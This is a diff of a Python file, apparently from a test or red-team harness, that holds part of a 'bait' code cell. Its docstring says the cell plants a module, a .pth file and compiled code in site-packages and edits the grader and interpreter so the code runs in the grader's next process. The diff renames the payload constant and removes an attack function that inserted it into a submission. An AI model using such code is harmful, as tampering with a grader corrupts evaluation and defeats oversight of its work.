@@ -1,7 +1,6 @@
-"""Plants a module, a .pth file and compiled code in site-packages, edits the course's own tool and the
-interpreter's files, so that it runs in the grader's next process."""
+"""Plants a module, a .pth file and compiled code in site-packages, and edits the grader and the interpreter."""
 
-CODE = r"""
+BAIT_CELL = r"""
 import compileall, importlib.util, os, shutil, sys, marshal
 
 packages = bait["paths"]["packages"]
@@ -27,7 +26,3 @@ tried(
     lambda: os.system(f"{sys.executable} -m pip install --no-index --target {packages} {name}"),
 )
 """
-
-
-def attack(submission):
-    submission.add(submission.bait.cell(CODE))
